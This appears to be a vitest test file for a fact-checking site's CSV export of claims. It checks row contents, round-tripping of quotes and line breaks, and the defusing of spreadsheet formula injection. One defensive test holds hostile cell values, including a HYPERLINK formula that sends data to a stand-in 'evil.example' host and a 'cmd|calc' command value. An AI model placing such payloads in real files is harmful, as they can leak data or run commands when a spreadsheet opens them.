// The claims CSV opened with a real CSV parser (csv-parse, RFC 4180): one row per claim, cells
// with quotes, commas and line breaks intact, and nothing a spreadsheet would run as a formula.
import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import type { ExportClaim } from '@/lib/queries/interop'
import { CLAIM_CSV_HEADER, claimsCsv } from '@/lib/interop/claims-csv'
import { CLAIMS, SITE } from './sample-claims'

function read(csv: string): Record<string, string>[] {
  return parse(csv, { columns: true, skip_empty_lines: true, record_delimiter: '\r\n' })
}

test('one row per claim with its article, outlet, dates, speaker, subject, kind, quote, verdict and links', () => {
  const csv = claimsCsv(CLAIMS, SITE)
  expect(parse(csv, { to_line: 1 })[0]).toEqual([...CLAIM_CSV_HEADER])
  const rows = read(csv)
  expect(rows).toHaveLength(3)
  expect(rows[1]).toEqual({
    claim_id: '01970000-0000-7000-8000-00000000c002',
    claim_url: 'https://claims.example.org/claims/01970000-0000-7000-8000-00000000c002',
    kind: 'denial',
    quote: 'denied it was part of any voluntary data collection mechanism',
    speaker: 'Microsoft',
    subject: 'Microsoft',
    channel: 'emailed statement',
    claim_date: '2013-06-06',
    note: '',
    verdict: 'Misleading',
    verdict_note: 'Microsoft later confirmed that it complies with FISA orders for customer data.',
    verdict_at: '2013-07-12T09:30:00.000Z',
    status: 'active',
    article_id: '01970000-0000-7000-8000-00000000a001',
    article_title: 'Microsoft says not part of broad government online monitoring',
    article_url: 'https://www.reuters.com/article/2013/06/07/us-usa-security-microsoft-idUSBRE95604E20130607',
    outlet: 'Reuters',
    article_published: '2013-06-06T20:43:00-04:00',
    bylines: 'Bill Rigby',
    stories: 'PRISM, 2013',
    links: 'denies https://claims.example.org/claims/01970000-0000-7000-8000-00000000c001',
  })
  expect(rows[2]).toMatchObject({
    speaker: 'Brad Smith',
    article_url: 'https://claims.example.org/articles/01970000-0000-7000-8000-00000000a002',
    article_published: '',
    verdict: 'Accurate',
    verdict_note: '',
  })
})

test('quotes, commas and line breaks inside a cell survive the round trip', () => {
  const quote = 'He said "we never, ever" share data,\nand then:\r\n"not voluntarily".'
  const rows = read(claimsCsv([{ ...(CLAIMS[0] as ExportClaim), quote, note: 'two\n\nparagraphs, "quoted"' }], SITE))
  expect(rows).toHaveLength(1)
  expect(rows[0]?.quote).toBe(quote)
  expect(rows[0]?.note).toBe('two\n\nparagraphs, "quoted"')
})

test('cells that would start a formula are defused with an apostrophe; the rest of the text is kept', () => {
  const hostile: ExportClaim = {
    ...(CLAIMS[0] as ExportClaim),
    quote: '=HYPERLINK("https://evil.example/?"&A1,"click")',
    note: '+1 555 0100',
    channel: '-2+3',
    verdict: '@SUM(A1:A9)',
    speaker: { id: '01970000-0000-7000-8000-00000000e009', kind: 'person', name: '\tcmd|calc' },
  }
  const [row] = read(claimsCsv([hostile], SITE))
  expect(row?.quote).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"click")`)
  expect(row?.note).toBe(`'+1 555 0100`)
  expect(row?.channel).toBe(`'-2+3`)
  expect(row?.verdict).toBe(`'@SUM(A1:A9)`)
  expect(row?.speaker).toBe(`'\tcmd|calc`)
  for (const value of Object.values(row ?? {})) expect(value).not.toMatch(/^[=+\-@\t\r]/)
})

test('no claims: the header alone', () => {
  expect(read(claimsCsv([], SITE))).toEqual([])
  expect(claimsCsv([], SITE)).toBe(`${CLAIM_CSV_HEADER.join(',')}\r\n`)
})
